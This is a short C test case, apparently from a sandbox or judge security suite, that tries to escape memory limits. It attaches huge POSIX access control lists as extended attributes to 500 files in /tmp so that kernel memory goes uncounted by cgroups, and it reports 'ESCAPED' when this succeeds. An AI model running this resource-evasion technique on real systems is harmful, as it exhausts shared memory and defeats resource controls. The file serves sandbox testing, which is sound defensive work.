// expect: AC
// attack: T6 T16 memory_access_lists: long access control lists of its own files, which no cgroup counts
// control: seccomp
#include <fcntl.h>
#include <stdio.h>
#include <sys/xattr.h>
#include <unistd.h>
int main(void) {
    static struct { int version; struct { short tag, rights; int user; } entry[8190]; } list = {2, {{.tag = 1}}};
    long stored = 0;
    for (int place = 1; place < 8187; place++) list.entry[place].tag = 2, list.entry[place].user = getuid();
    for (int place = 0; place < 3; place++) list.entry[8187 + place].tag = (short[]){4, 16, 32}[place];
    for (int file = 0; file < 500; file++) {
        char path[32];
        snprintf(path, sizeof path, "/tmp/%d", file);
        close(open(path, O_CREAT | O_WRONLY, 0600));
        if (setxattr(path, "system.posix_acl_access", &list, sizeof list, 0) == 0) stored += sizeof list;
    }
    if (stored > 0) printf("ESCAPED stored %ld bytes that no cgroup counts\n", stored);
    return 0;
}
